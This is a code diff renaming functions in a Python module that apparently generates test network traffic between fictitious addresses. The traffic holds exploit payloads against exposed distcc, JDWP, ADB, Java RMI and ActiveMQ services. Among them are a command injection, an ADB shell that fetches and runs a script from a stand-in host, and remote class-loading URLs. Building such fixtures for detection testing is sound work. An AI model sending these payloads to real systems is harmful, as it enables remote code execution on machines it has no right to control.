@@ -1,5 +1,5 @@
-"""A compilation and a shell command for distcc, a debugger of Java, a debug bridge with two services, a Java object
-with code from a URL over RMI, and a class for a message broker. Addresses are made up.
+"""Commands to exposed services: a compilation and a shell command for distcc, JDWP, ADB with two services, a Java
+object with a code URL over RMI, a class for ActiveMQ (OpenWire). Addresses are fictitious.
 """
 
 from __future__ import annotations
@@ -12,36 +12,36 @@ CLIENT, SERVER = (DESKTOP, "10.20.30.66"), (PBX, "10.20.30.5")
 CLASS = b"org.springframework.context.support.ClassPathXmlApplicationContext"
 
 
-def compilation(*words: bytes) -> bytes:
-    return b"DIST00000001ARGC%08x" % len(words) + b"".join(b"ARGV%08x%b" % (len(word), word) for word in words)
+def compilation(*arguments: bytes) -> bytes:
+    return b"DIST00000001ARGC%08x" % len(arguments) + b"".join(b"ARGV%08x%b" % (len(word), word) for word in arguments)
 
 
-def bridge(command: bytes, first: int, second: int, data: bytes) -> bytes:
-    """A message of the debug bridge: its name, two values, size and sum of the data, the name inverted."""
+def adb_message(command: bytes, first: int, second: int, data: bytes) -> bytes:
+    """A message of ADB: command, two arguments, size and sum of the data, the inverted command."""
     number = int.from_bytes(command, "little")
     head = struct.pack("<4s5I", command, first, second, len(data), sum(data), number ^ 0xFFFFFFFF)
     return head + data
 
 
-def remote(*names: bytes) -> bytes:
-    """A call with serialized objects: the name of each class, then its id and its flags."""
+def rmi_call(*names: bytes) -> bytes:
+    """A call with serialized objects: for each class its name, serial version UID and flags."""
     parts = (b"sr" + struct.pack(">H", len(name)) + name + b"serial88\x02\0\0xp" for name in names)
     return b"P\xac\xed\0\x05w\x22" + b"".join(parts)
 
 
 def frames() -> Frames:
-    def say(port: int, number: int, *messages: bytes) -> Frames:
+    def connection(port: int, number: int, *messages: bytes) -> Frames:
         yield from conversation((*CLIENT, number), (*SERVER, port), [(True, message) for message in messages])
 
-    yield from say(3632, 49500, compilation(b"gcc", b"-O2", b"-c", b"main.c"))
-    yield from say(3632, 49501, compilation(b"sh", b"-c", b"id", b"#", b"-c", b"main.c", b"-o", b"main.o"))
-    yield from say(8000, 49502, b"JDWP-Handshake")
+    yield from connection(3632, 49500, compilation(b"gcc", b"-O2", b"-c", b"main.c"))
+    yield from connection(3632, 49501, compilation(b"sh", b"-c", b"id", b"#", b"-c", b"main.c", b"-o", b"main.o"))
+    yield from connection(8000, 49502, b"JDWP-Handshake")
     opened = [b"shell:getprop\0", b"shell:cd /data/local/tmp; busybox wget http://198.51.100.7/w.sh; sh w.sh\0"]
-    yield from say(
-        5555, 49503, bridge(b"CNXN", 0x01000000, 4096, b"host::\0"),
-        *(bridge(b"OPEN", number, 0, service) for number, service in enumerate(opened, 1)),
+    yield from connection(
+        5555, 49503, adb_message(b"CNXN", 0x01000000, 4096, b"host::\0"),
+        *(adb_message(b"OPEN", number, 0, service) for number, service in enumerate(opened, 1)),
     )  # fmt: skip
-    loader = remote(b"java.rmi.server.ObjID", b"http://198.51.100.7:8080/a/x.jar", b"metasploit.RMILoader")
-    yield from say(1099, 49504, b"JRMI\0\x02K", loader)
+    loader = rmi_call(b"java.rmi.server.ObjID", b"http://198.51.100.7:8080/a/x.jar", b"metasploit.RMILoader")
+    yield from connection(1099, 49504, b"JRMI\0\x02K", loader)
     error = b"\x1f\0\0\0\0\0\x01\x01" + struct.pack(">H", len(CLASS)) + CLASS + b"\x01\0\x1bhttp://198.51.100.7/poc.xml"
-    yield from say(61616, 49505, struct.pack(">I", len(error)) + error)
+    yield from connection(61616, 49505, struct.pack(">I", len(error)) + error)
